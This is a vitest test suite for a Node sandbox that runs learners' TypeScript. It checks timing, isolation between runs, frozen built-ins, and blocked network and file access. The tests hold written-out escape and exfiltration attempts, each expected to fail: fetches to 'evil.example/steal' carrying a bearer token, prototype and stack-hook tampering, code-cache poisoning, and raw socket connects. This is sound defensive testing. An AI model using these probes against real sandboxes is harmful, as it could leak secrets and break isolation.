/**
 * The sandbox runtime in its Node host, end to end: real child processes, real compile, the real
 * mock API. What a learner's program does is judged only by the run record.
 */
import { spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { RunOptions } from '../runner.ts';
import type { RunRecord } from '../run-record.ts';
import { childFiles } from './child-files.ts';
import {
  createNodeRunner,
  createNodeSandbox,
  networkIsolation,
  sandboxCommand,
} from './node-host.ts';
import { SandboxWorker } from '../sandbox-client.ts';
import { FROZEN_SWEEP } from '../frozen-sweep.ts';

const runner = createNodeRunner();
afterAll(() => runner.dispose());

function run(code: string, options: RunOptions = {}): Promise<RunRecord> {
  return runner.run(code, options).done;
}

const texts = (record: RunRecord) => record.console.map((line) => line.text);

describe('virtual clock', () => {
  it('jumps over 30 s of waiting: a /hang with a 30 s deadline and three Retry-After: 10 waits', async () => {
    const record = await run(
      `
      const started = Date.now();
      try {
        await fetch('https://api.example.com/hang', { signal: AbortSignal.timeout(30_000) });
      } catch (error) {
        console.log((error as Error).name, Date.now() - started);
      }
      for (let attempt = 1; attempt <= 3; attempt++) {
        const response = await fetch('https://api.example.com/status/429');
        await new Promise((resolve) => setTimeout(resolve, Number(response.headers.get('retry-after')) * 10_000));
      }
      console.log(Date.now() - started, Math.round(performance.now()), new Date().getTime() - started);
      `,
      { clock: 'virtual' },
    );
    expect(record.outcome).toBe('finished');
    expect(texts(record)).toEqual(['TimeoutError 30000', '60000 60000 60000']);
    expect(record.clockMs).toBe(60_000);
    expect(record.realMs).toBeLessThan(10_000);
    expect(record.network.map((row) => [row.outcome, row.startMs, row.endMs])).toEqual([
      ['timed-out', 0, 30_000],
      ['ok', 30_000, 30_000],
      ['ok', 40_000, 40_000],
      ['ok', 50_000, 50_000],
    ]);
  });

  it('waits the mock API delays on the same clock', async () => {
    const record = await run(
      "const r = await fetch('https://api.example.com/delay/20'); console.log(r.status, performance.now());",
      { clock: 'virtual' },
    );
    expect(texts(record)).toEqual(['200 20000']);
    expect(record.network[0]).toMatchObject({ status: 200, startMs: 0, endMs: 20_000 });
  });

  it('stops at the virtual limit with its own message', async () => {
    const record = await run('setInterval(() => {}, 60_000);', {
      clock: 'virtual',
      virtualLimitMs: 300_000,
    });
    expect(record.outcome).toBe('timed-out');
    expect(record.message).toMatch(/^Virtual time limit reached: .* after 300 virtual seconds\.$/);
  });

  it('a pending AbortSignal.timeout does not keep a finished program alive', async () => {
    const record = await run(
      "const signal = AbortSignal.timeout(60_000); const r = await fetch('https://api.example.com/users/1', { signal }); console.log(r.status);",
      { clock: 'virtual' },
    );
    expect(record.outcome).toBe('finished');
    expect(record.clockMs).toBe(0);
  });

  it('a program that listens for an AbortSignal.timeout waits for it: its output is not lost', async () => {
    const record = await run(
      "const signal = AbortSignal.timeout(5_000); signal.addEventListener('abort', () => console.log('aborted', performance.now())); console.log('set');",
      { clock: 'virtual' },
    );
    expect(record.outcome).toBe('finished');
    expect(texts(record)).toEqual(['set', 'aborted 5000']);
  });
});

describe('waiting forever', () => {
  it('names the open request that has no signal, at once', async () => {
    const record = await run("await fetch('https://api.example.com/hang');", {
      clock: 'real',
      timeLimitMs: 8000,
    });
    expect(record.outcome).toBe('waiting-forever');
    expect(record.message).toBe(
      'GET /hang has no signal and will never be answered: give it a timeout (signal: AbortSignal.timeout(ms)).',
    );
    expect(record.realMs).toBeLessThan(8000);
  });

  it('says a body that stopped arriving stopped, when nothing can end the read', async () => {
    const record = await run(
      "const r = await fetch('https://api.example.com/stream/5?stall_after=2'); console.log(r.status); await r.text();",
      { clock: 'virtual', timeLimitMs: 8000 },
    );
    expect(record.outcome).toBe('waiting-forever');
    expect(record.console.map((line) => line.text)).toEqual(['200']);
    expect(record.message).toMatch(
      /^GET \/stream\/5\?stall_after=2 sent its headers, then its body stopped arriving/,
    );
  });

  it('says so for a promise nothing can settle', async () => {
    const record = await run("console.log('before'); await new Promise(() => {});", {
      clock: 'virtual',
    });
    expect(record.outcome).toBe('waiting-forever');
    expect(record.message).toMatch(/waiting for a promise that nothing can settle/);
    expect(texts(record)).toEqual(['before']);
  });
});

describe('outcomes', () => {
  it('reports an uncaught error with its line, and a rejection, as failed', async () => {
    const record = await run(
      "const a = 1;\nPromise.reject(new RangeError('later'));\nthrow new TypeError('boom');",
    );
    expect(record.outcome).toBe('failed');
    expect(record.error).toEqual({
      name: 'TypeError',
      message: 'boom',
      position: { line: 3, column: 7 },
    });
    expect(texts(record)).toContain('Uncaught (in promise) RangeError: later');
  });

  it('stops a loop that never ends at the real time limit', async () => {
    const record = await run('while (true) {}', { timeLimitMs: 1500 });
    expect(record.outcome).toBe('timed-out');
    expect(record.message).toMatch(/^Time limit reached: stopped after 1\.5 s of real time\.$/);
  });

  it('reports a compile error as failed, with its position', async () => {
    const record = await run('const x = ;');
    expect(record.outcome).toBe('failed');
    expect(record.error).toMatchObject({ name: 'CompileError', position: { line: 1, column: 11 } });
  });
});

describe('learner code cannot bend the record', () => {
  it('built-ins are frozen: the assignments throw and the record still tells the truth', async () => {
    const record = await run(`
      const attempts: [string, () => void][] = [
        ['Array.prototype.push', () => { (Array.prototype as any).push = () => 0; }],
        ['JSON.stringify', () => { (JSON as any).stringify = () => '{}'; }],
        ['Promise.prototype.then', () => { (Promise.prototype as any).then = () => 0; }],
        ['Object.defineProperty', () => { (Object as any).defineProperty = () => 0; }],
        ['Response status getter', () => { Object.defineProperty(Response.prototype, 'status', { get: () => 200 }); }],
        ['Request url getter', () => { Object.defineProperty(Request.prototype, 'url', { get: () => 'https://api.example.com/forged' }); }],
        ['performance.now', () => { (performance as any).now = () => 1e7; }],
        ['Set size', () => { Object.defineProperty(Set.prototype, 'size', { get: () => 0 }); }],
        ['Array iterator', () => { (Array.prototype as any)[Symbol.iterator] = function* () {}; }],
        // A check reads these bindings after the learner's module ran: a fake Object.is passed it.
        ['global Object', () => { (globalThis as any).Object = { is: () => true }; }],
        ['global JSON', () => { Object.defineProperty(globalThis, 'JSON', { value: {} }); }],
        ['global fetch', () => { (globalThis as any).fetch = () => 0; }],
      ];
      for (const [name, attempt] of attempts) {
        try { attempt(); console.log(name, 'changed'); } catch { console.log(name, 'refused'); }
      }
      const response = await fetch('https://api.example.com/users/99999');
      console.log(response.status);
    `);
    expect(texts(record)).toEqual([
      'Array.prototype.push refused',
      'JSON.stringify refused',
      'Promise.prototype.then refused',
      'Object.defineProperty refused',
      'Response status getter refused',
      'Request url getter refused',
      'performance.now refused',
      'Set size refused',
      'Array iterator refused',
      'global Object refused',
      'global JSON refused',
      'global fetch refused',
      '404',
    ]);
    expect(record.network).toHaveLength(1);
    expect(record.network[0]).toMatchObject({
      method: 'GET',
      url: 'https://api.example.com/users/99999',
      status: 404,
    });
  });

  it('has no process, require, file system, code from strings or untracked async sources', async () => {
    const record = await run(`
      const g = globalThis as any;
      const checks: [string, () => unknown][] = [
        ['process', () => typeof g.process],
        ['require fs', () => g.require('node:fs')],
        ['eval', () => eval('1 + 1')],
        ['Function', () => new Function('return 1')()],
        ['constructor', () => (async () => {}).constructor('return 1')()],
        ['a prototype of the global object', () => String(Object.getPrototypeOf(g))],
        ['setImmediate', () => typeof g.setImmediate],
        ['MessageChannel', () => typeof g.MessageChannel],
        ['scheduler', () => typeof g.scheduler],
        ['WebSocket', () => typeof g.WebSocket],
      ];
      for (const [name, check] of checks) {
        try { console.log(name, String(check())); } catch (error) { console.log(name, 'threw', (error as Error).name); }
      }
    `);
    expect(texts(record)).toEqual([
      'process undefined',
      'require fs threw TypeError',
      // SES refuses eval; Node's --disallow-code-generation-from-strings refuses the constructors.
      expect.stringMatching(/^eval threw (TypeError|EvalError)$/),
      expect.stringMatching(/^Function threw (TypeError|EvalError)$/),
      expect.stringMatching(/^constructor threw (TypeError|EvalError)$/),
      // The program's global object is its run's scope: nothing behind it.
      'a prototype of the global object null',
      'setImmediate undefined',
      'MessageChannel undefined',
      'scheduler undefined',
      'WebSocket undefined',
    ]);
  });

  // The child starts from a loader that hands its own `require` to the runtime's bundle: nothing of
  // the loader's scope, nor the files beside it (the code cache every later sandbox reads), is reachable.
  it("cannot reach the loader's require, its module scope or the sandbox's files", async () => {
    const { loader, codeCache } = childFiles();
    const record = await run(`
      const g = globalThis as any;
      const checks: [string, () => unknown][] = [
        ['module scope', () => [typeof g.module, typeof g.exports, typeof g.__filename].join(' ')],
        ['require the loader', () => g.require(${JSON.stringify(loader)})],
        ['require the cache', () => g.require(${JSON.stringify(codeCache)})],
        ['import the loader', () => import(['file://', ${JSON.stringify(loader)}].join(''))],
        ['functions of the call sites', () => {
          let seen = 'not called';
          g.Error.prepareStackTrace = (_: unknown, sites: { getFunction(): unknown }[]) => {
            seen = sites.map((site) => typeof site.getFunction()).join(',');
            return '';
          };
          void new Error().stack;
          return seen;
        }],
      ];
      for (const [name, check] of checks) {
        try { console.log(name, String(await check())); } catch (error) { console.log(name, 'threw', (error as Error).name); }
      }
    `);
    expect(texts(record)).toEqual([
      'module scope undefined undefined undefined',
      'require the loader threw TypeError',
      'require the cache threw TypeError',
      'import the loader threw TypeError',
      expect.stringMatching(/^functions of the call sites (threw TypeError|not called)$/),
    ]);
  });

  it('a foreign host fails like a network failure and leaves a row that says so', async () => {
    const record = await run(
      "try { await fetch('http://127.0.0.1:9/steal'); } catch (error) { console.log(String(error)); }",
    );
    expect(texts(record)).toEqual([
      expect.stringMatching(/^fetch\("http:\/\/127\.0\.0\.1:9\/steal"\) was blocked/),
      'TypeError: Failed to fetch',
    ]);
    expect(record.network[0]).toMatchObject({ outcome: 'failed', status: null });
  });

  it('cannot take the body-read counting off Response, nor leave the mock API through a redirect', async () => {
    const record = await run(
      [
        "try { Response.prototype.json = async () => ({}); } catch (e) { console.log('json', e.name); }",
        "try { Object.defineProperty(Response.prototype, 'text', { value: () => '' }); } catch (e) { console.log('text', e.name); }",
        "for (const target of ['https://evil.example/steal', 'http://127.0.0.1:4010/users/1']) {",
        "  const url = 'https://api.example.com/redirect-to?url=' + encodeURIComponent(target);",
        "  try { await fetch(url, { headers: { Authorization: 'Bearer secret' } }); console.log('followed'); }",
        '  catch (e) { console.log(target, e.name); }',
        '}',
      ].join('\n'),
      { clock: 'virtual' },
    );
    expect(texts(record)).toEqual([
      'json TypeError',
      'text TypeError',
      expect.stringMatching(
        /^The redirect from https:\/\/api\.example\.com\/redirect-to\S+ to https:\/\/evil\.example\/steal was not followed/,
      ),
      'https://evil.example/steal TypeError',
      'http://127.0.0.1:4010/users/1 TypeError',
    ]);
    expect(record.network.map((entry) => [entry.status, entry.outcome, entry.reason])).toEqual([
      [302, 'ok', undefined],
      [null, 'failed', 'Outside the mock API'],
      [302, 'ok', undefined],
      [null, 'failed', 'Outside the mock API'],
    ]);
  });
});

describe('nothing a run writes reaches another, even in the same sandbox', () => {
  // Every place a mark could outlive a run: own properties of shared built-ins and of the objects
  // behind them (hidden prototypes, SES's and V8's Error constructors), the storage, the global
  // object, V8's stack hooks, and a timer.
  const marking = `
    const g = globalThis as any;
    const seen: string[] = [];
    const places: [string, any][] = [['atob', atob], ['structuredClone', structuredClone],
      ['localStorage', localStorage], ['Headers iterator', Object.getPrototypeOf(new Headers().entries())],
      ['stream iterator', Object.getPrototypeOf(new ReadableStream().values())],
      ['crypto.subtle', crypto.subtle], ['AbortSignal', AbortSignal],
      ['AbortSignal.prototype.constructor', AbortSignal.prototype.constructor],
      ["DOMException's parent", Object.getPrototypeOf(DOMException)],
      ["a stream controller's prototype", (() => { let c: any; new WritableStream({ start(x) { c = x; } }); return Object.getPrototypeOf(c); })()],
      ['Error', Error], ['the global object', g],
      ['segments', Object.getPrototypeOf(new Intl.Segmenter().segment(''))],
      ['segment iterator', Object.getPrototypeOf(new Intl.Segmenter().segment('')[Symbol.iterator]())],
      ["a key's prototype", Object.getPrototypeOf(await crypto.subtle.importKey('raw', new Uint8Array(16), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign']))],
      ["an error Node throws", (() => { try { new EventTarget().addEventListener('x', 5 as any); } catch (error) { return Object.getPrototypeOf(error); } })()],
      ['the module token function', typeof __sandboxModuleStarted === 'undefined' ? {} : __sandboxModuleStarted]];
    declare const __sandboxModuleStarted: any;
    for (const [name, place] of places) {
      try { if (place.mark) seen.push(name); place.mark = 1; } catch {}
    }
    try { if (localStorage.getItem('mark')) seen.push('stored'); localStorage.setItem('mark', '1'); } catch {}
    try { if ((Error as any).stackTraceLimit === 3) seen.push('stack limit'); (Error as any).stackTraceLimit = 3; } catch {}
    // Clocks that count from the realm's start, and module URLs that count loads, are run counters.
    if (new Event('x').timeStamp !== 0) seen.push('event clock');
    if (/load%20\\d+$/.test(import.meta.url)) seen.push('numbered module URL');
    try { (Error as any).prepareStackTrace = () => { console.log('an earlier run hooked this stack'); return ''; }; } catch {}
    setTimeout(() => console.log("this run's timer fired"), 50_000);
    console.log('seen:', seen.join(',') || 'nothing', new Error('probe').stack?.includes('probe'));
  `;

  it('a live example boots a sandbox per run, and the next run finds no mark, timer or stack hook of the last', async () => {
    let booted = 0;
    const counted = createNodeRunner({ spares: 0, onBoot: () => (booted += 1) });
    try {
      const first = await counted.run(marking, { clock: 'virtual' }).done;
      const second = await counted.run(marking, { clock: 'virtual' }).done;
      expect(booted).toBe(2);
      expect(texts(first)).toEqual(['seen: nothing true', "this run's timer fired"]);
      expect(texts(second)).toEqual(texts(first));
    } finally {
      counted.dispose();
    }
  });

  it("a session's runs share a sandbox, and each finds no mark, timer or stack hook of the one before", async () => {
    let booted = 0;
    const counted = createNodeRunner({ spares: 0, onBoot: () => (booted += 1) });
    const session = counted.session();
    try {
      const records = [];
      for (let index = 0; index < 3; index += 1) {
        records.push(await session.run(marking, { clock: 'virtual' }).done);
      }
      expect(booted).toBe(1);
      for (const record of records) {
        expect(record.outcome).toBe('finished');
        expect(texts(record)).toEqual(['seen: nothing true', "this run's timer fired"]);
      }
    } finally {
      session.end();
      counted.dispose();
    }
  });

  it('a callback an earlier run left behind reaches nothing of the next run: not its fetch, console, timers, storage or mock API', async () => {
    let booted = 0;
    const counted = createNodeRunner({ spares: 0, onBoot: () => (booted += 1) });
    const session = counted.session();
    // Host work the run loop does not track (a digest) keeps this loop alive after the run's
    // verdict: it waits quietly until its run is over, then tries every way into the next run.
    const leaving = `
      const g = globalThis as any;
      const attempts: [string, () => unknown][] = [
        ['fetch', () => fetch('https://api.example.com/users', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ name: 'Left Behind', email: 'left@example.com' }) })],
        ['global fetch', () => g.fetch('https://api.example.com/users/2')],
        ['console', () => console.log('written by an earlier run')],
        ['timer', () => setTimeout(() => console.log('an earlier run timer'), 0)],
        ['timeout signal', () => AbortSignal.timeout(1).addEventListener('abort', () => console.log('an earlier run signal'))],
        ['platform timeout signal', () => (AbortSignal.prototype.constructor as any).timeout(1).addEventListener('abort', () => console.log('an earlier run platform signal'))],
        ['storage', () => localStorage.setItem('mark', 'left behind')],
        ['module tokens', () => g.__sandboxModuleStarted?.('guess')],
      ];
      async function linger() {
        for (let turn = 0; turn < 3000; turn += 1) {
          await crypto.subtle.digest('SHA-256', new Uint8Array(8));
          if (turn < 20) continue;
          for (const [, attempt] of attempts) { try { await attempt(); } catch {} }
        }
      }
      void linger();
      console.log('first run done');
    `;
    // Real time passes (requests the run loop sees), so the leftover loop gets its turns meanwhile.
    const next = `
      for (let i = 0; i < 50; i += 1) {
        await new Promise((resolve) => setTimeout(resolve, 100));
        await (await fetch('https://api.example.com/users/1')).json();
      }
      const users = await (await fetch('https://api.example.com/users?per_page=100')).json();
      console.log('stored', localStorage.getItem('mark'), 'left behind users', JSON.stringify(users).includes('Left Behind'));
    `;
    try {
      const first = await session.run(leaving, { clock: 'virtual' }).done;
      expect(first.outcome).toBe('finished');
      expect(texts(first)).toEqual(['first run done']);
      const second = await session.run(next, { clock: 'virtual' }).done;
      expect(booted).toBe(1);
      expect(second.outcome).toBe('finished');
      expect(texts(second)).toEqual(['stored null left behind users false']);
      expect(second.network.map((row) => `${row.method} ${row.url}`)).toEqual([
        ...Array(50).fill('GET https://api.example.com/users/1'),
        'GET https://api.example.com/users?per_page=100',
      ]);
      expect(second.error).toBeNull();
    } finally {
      session.end();
      counted.dispose();
    }
  });

  it("a request an earlier run left open cannot clear the next run's timers, nor watch its time", async () => {
    const counted = createNodeRunner({ spares: 0 });
    const session = counted.session();
    // The first run of a sandbox is served by the mock API prepared at boot. Its slow body keeps
    // listening to the request's signal after the body is cancelled; aborting it later clears the
    // body's timer id on the mock's clock. A loop on untracked digests aborts it once the next run
    // has set its own timer with the same id, and reports the first run's clock by throwing (a
    // leftover's error lands in the next run's record: the one channel it has, see SECURITY.md).
    const leaving = `
      const controller = new AbortController();
      const seen = new Set<number>();
      void (async () => {
        for (let turn = 0; turn < 400; turn += 1) {
          await crypto.subtle.digest('SHA-256', new Uint8Array(8));
          seen.add(performance.now());
          if (turn === 150) controller.abort();
        }
        throw new Error('the first run saw its clock at ' + seen.size + ' times');
      })();
      const response = await fetch('https://api.example.com/slow-body/5', { signal: controller.signal });
      const reader = response.body!.getReader();
      await reader.read();
      await reader.cancel();
    `;
    const next = `
      let fired = false;
      setTimeout(() => { fired = true; }, 5000);
      for (let i = 0; i < 3000; i += 1) await new Promise((resolve) => setTimeout(resolve, i % 2));
      await new Promise((resolve) => setTimeout(resolve, 10_000));
      console.log('timer fired', fired);
    `;
    try {
      const first = await session.run(leaving, { clock: 'virtual' }).done;
      expect(first.outcome).toBe('finished');
      const second = await session.run(next, { clock: 'virtual' }).done;
      expect(texts(second)).toContain('timer fired true');
      expect(second.error?.message).toBe('the first run saw its clock at 1 times');
    } finally {
      session.end();
      counted.dispose();
    }
  });

  it('every object a program reaches through the built-ins it is given is frozen: what their methods return and throw included', async () => {
    const record = await run(FROZEN_SWEEP, { clock: 'virtual', timeLimitMs: 20_000 });
    expect(texts(record).at(-1)).toBe('all frozen');
  });

  it('a throw in a microtask fails the run with its error; SES does not end the sandbox', async () => {
    const record = await run(
      "queueMicrotask(() => { throw new TypeError('from a microtask'); });",
      {
        clock: 'virtual',
      },
    );
    expect(record.outcome).toBe('failed');
    expect(record.error).toMatchObject({ name: 'TypeError', message: 'from a microtask' });
  });

  it("the realm's own global object, which compiled code never reads, holds nothing writable either", async () => {
    // Raw JavaScript, not compiled: as if a route to the realm's global object had been found.
    const sandbox = new SandboxWorker(createNodeSandbox);
    try {
      await sandbox.ready;
      const lines: string[] = [];
      await new Promise<void>((resolve, reject) => {
        sandbox.run(
          {
            type: 'run',
            js: `const open = [];
              for (const name of Reflect.ownKeys(globalThis)) {
                const d = Object.getOwnPropertyDescriptor(globalThis, name);
                const value = d.value;
                if (d.configurable || d.writable || d.set) open.push(String(name) + ' binding');
                if (value !== null && (typeof value === 'object' || typeof value === 'function') && value !== globalThis && !Object.isFrozen(value)) open.push(String(name));
              }
              __courseRun.console.log(open.join(', ') || 'all frozen');`,
            sourceMap: '{}',
            settings: { scenario: 'normal', seed: 1, clock: 'virtual' },
          },
          (message) => {
            if (message.type === 'console')
              lines.push(String((message.args[0] as { value?: unknown }).value));
            if (message.type === 'finished' || message.type === 'waiting-forever') resolve();
          },
          reject,
        );
      });
      expect(lines).toEqual(['all frozen']);
    } finally {
      sandbox.terminate();
    }
  });

  it('gives no garbage-collector callbacks, which could run after the program ended', async () => {
    const record = await runner.run('console.log(typeof FinalizationRegistry, typeof WeakRef);', {
      clock: 'virtual',
    }).done;
    expect(texts(record)).toEqual(['undefined function']);
  });

  it('gives V8 stack hooks no power, so no learner function sees the call sites of the checks or the runtime', async () => {
    const record = await run(
      `
      let called = 0;
      const hook = () => { called += 1; return 'forged'; };
      // Every Error constructor a program can reach: its global, a subclass's parent, an instance's.
      for (const E of [Error, Object.getPrototypeOf(TypeError), new RangeError().constructor] as any[]) {
        for (const name of ['prepareStackTrace', 'stackTraceLimit']) {
          try { E[name] = name === 'stackTraceLimit' ? 0 : hook; } catch {}
        }
        try { E.captureStackTrace?.({}); } catch {}
      }
      console.log('hook called', called, 'stack kept', String(new Error('probe').stack?.includes('probe')));
      function deep() { throw new Error('real error'); }
      deep();
      `,
      { clock: 'virtual' },
    );
    expect(texts(record)[0]).toBe('hook called 0 stack kept true');
    expect(record.error).toMatchObject({ message: 'real error', position: { line: 12 } });
  });

  it("never hands learner code msw's own response: a 1xx fails like fetch, and patching what it got changes no recorded status", async () => {
    const record = await run(
      `
      let got: any = null;
      try { got = await fetch('https://api.example.com/status/101'); } catch (error) { console.log(String(error)); }
      console.log(got === null);
      const proto = Object.getPrototypeOf(await fetch('https://api.example.com/users/1'));
      try {
        Object.defineProperty(proto, 'status', { get: () => 200 });
        console.log('patched');
      } catch { console.log('refused'); }
      const missing = await fetch('https://api.example.com/users/999999');
      console.log(missing.status);
      `,
      { clock: 'virtual' },
    );
    expect(texts(record)).toEqual(['TypeError: Failed to fetch', 'true', 'refused', '404']);
    expect(record.network.map((row) => row.status)).toEqual([null, 200, 404]);
    expect(record.network[0]).toMatchObject({ outcome: 'failed' });
  });
});

describe('defence in depth: the child process itself', () => {
  // Node's permission model does not cover the network: without the namespace, the same script
  // connects (that is what the red-team saw). Where the OS offers no namespace, there is no such layer.
  it.skipIf(networkIsolation().kind === 'none')(
    'cannot open a socket even with every JavaScript guard gone',
    async () => {
      const server = createServer((socket) => socket.destroy());
      let connections = 0;
      server.on('connection', () => (connections += 1));
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      const port = (server.address() as { port: number }).port;
      const dir = mkdtempSync(join(tmpdir(), 'sandbox-net-'));
      const script = join(dir, 'connect.cjs');
      writeFileSync(
        script,
        `const socket = require('node:net').connect(${port}, '127.0.0.1');
         socket.on('connect', () => { process.send('connected'); });
         socket.on('error', (error) => { process.send('refused: ' + error.code); });`,
      );
      try {
        const { command, args } = sandboxCommand(script);
        const child = spawn(command, args, { stdio: ['ignore', 'ignore', 'pipe', 'ipc'] });
        const said = await new Promise<string>((resolve) => child.once('message', resolve));
        child.kill('SIGKILL');
        expect(said).toMatch(/^refused: (ECONNREFUSED|ENETUNREACH|EACCES)/);
        expect(connections).toBe(0);
      } finally {
        server.close();
        rmSync(dir, { recursive: true, force: true });
      }
    },
  );
  // The child's files are kept between processes (node_modules/.cache), V8's code cache among them:
  // a run must not be able to change what the next run loads.
  it('cannot write the file it was started from, nor anything beside it, such as the code cache', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'sandbox-fs-'));
    const script = join(dir, 'write-self.cjs');
    const cache = join(dir, 'sandbox-child.cache');
    writeFileSync(cache, 'the cache');
    const source = `const fs = require('node:fs');
       const tries = [() => fs.writeFileSync(__filename, 'tampered'),
                      () => fs.appendFileSync(__filename, 'tampered'),
                      () => fs.writeFileSync(__filename + '.next.mjs', 'tampered'),
                      () => fs.writeFileSync(${JSON.stringify(cache)}, 'poisoned'),
                      () => fs.renameSync(__filename, ${JSON.stringify(cache)})];
       process.send(tries.map((attempt) => { try { attempt(); return 'wrote'; } catch (e) { return e.code; } }));`;
    writeFileSync(script, source);
    try {
      // Started as the sandbox is: allowed to read its whole folder.
      const { command, args } = sandboxCommand(script, dir);
      const child = spawn(command, args, { stdio: ['ignore', 'ignore', 'pipe', 'ipc'] });
      const said = await new Promise<unknown>((resolve) => child.once('message', resolve));
      child.kill('SIGKILL');
      expect(said).toEqual(Array(5).fill('ERR_ACCESS_DENIED'));
      expect(readFileSync(script, 'utf8')).toBe(source);
      expect(readFileSync(cache, 'utf8')).toBe('the cache');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('a corrupt code cache only costs a compile: the next sandbox runs as before', async () => {
    const { codeCache } = childFiles();
    const before = existsSync(codeCache) ? readFileSync(codeCache) : null;
    writeFileSync(codeCache, 'not a code cache');
    try {
      const fresh = createNodeRunner({ spares: 0 });
      const record = await fresh.run('console.log(1 + 1);', {}).done;
      fresh.dispose();
      expect(record.outcome).toBe('finished');
      expect(texts(record)).toEqual(['2']);
    } finally {
      if (before) writeFileSync(codeCache, before);
      else rmSync(codeCache, { force: true });
    }
  });
});

describe('the run record format', () => {
  it('matches its JSON Schema, for a run with console, network, errors and every kind of row', async () => {
    const { default: Ajv } = await import('ajv/dist/2020.js');
    const schema = JSON.parse(
      readFileSync(new URL('../run-record.schema.json', import.meta.url), 'utf8'),
    ) as object;
    const validate = new Ajv({ allErrors: true }).compile(schema);
    const record = await run(
      `
      console.group('g'); console.table([{ a: 1 }]); console.groupEnd();
      await fetch('https://api.example.com/users/1');
      await fetch('https://api.example.com/hang', { signal: AbortSignal.timeout(10) }).catch(() => {});
      await fetch('https://example.org/').catch(() => {});
      throw new Error('last');
      `,
      { clock: 'virtual' },
    );
    expect(record.network.map((row) => row.outcome)).toEqual(['ok', 'timed-out', 'failed']);
    expect(validate(record), JSON.stringify(validate.errors)).toBe(true);
    expect(validate({ ...record, outcome: 'done' })).toBe(false);
  });
});
